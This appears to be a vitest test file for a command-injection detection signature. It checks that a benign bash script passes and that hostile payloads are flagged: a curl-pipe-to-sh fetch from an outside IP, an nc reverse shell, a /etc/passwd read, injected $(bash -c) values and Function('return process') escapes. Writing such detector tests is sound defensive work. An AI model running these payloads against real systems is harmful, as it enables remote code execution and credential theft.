import { expect, test } from 'vitest';
import { commandInjection } from '../../../../src/attacks/signatures/command-injection.ts';
import { foundIn, jsonBody } from '../../found-in.ts';

const script = (code: string): string =>
  `#!/bin/bash\nset -e\nID=$(bash -c '${code}')\nif [[ "$ID" != "ubuntu" ]]; then\n  exit 1\nfi\n`;

test('steps that a script has a shell of its own run are its own', () => {
  expect(foundIn(commandInjection, jsonBody({ file: script('source /etc/os-release && echo $ID') }))).toEqual([]);
});

test.each([
  'cat /etc/passwd; id',
  'cd /tmp && curl http://203.0.113.9/x | sh',
  'cd /tmp && nc -e /bin/sh 203.0.113.9 9001',
  'whoami && id',
  'cd /tmp && echo $(id)',
])('an intruder finds no place in them: %s', (code) => {
  expect(foundIn(commandInjection, jsonBody({ file: script(code) }))).not.toEqual([]);
});

test.each(["x;ID=$(bash -c 'cd /tmp && ls')", "$(bash -c 'cd /tmp && ls')", "x\n$(bash -c 'cd /tmp && ls')\ny"])(
  'nor where nothing is set to it, nor in a single line: %s',
  (text) => {
    expect(foundIn(commandInjection, jsonBody({ file: text }))).not.toEqual([]);
  },
);

test('a bundle that asks for the global object makes no code of a text', () => {
  const minified = 'var r=function(){return this}();try{r=r||Function("return this")()}catch(e){r=window}';
  expect(foundIn(commandInjection, jsonBody({ line: minified }))).toEqual([]);
  for (const code of ['Function("return this")().process', 'Function("return process")()', 'Function("return this")()'])
    expect([code, foundIn(commandInjection, jsonBody({ line: code }))]).not.toEqual([code, []]);
});
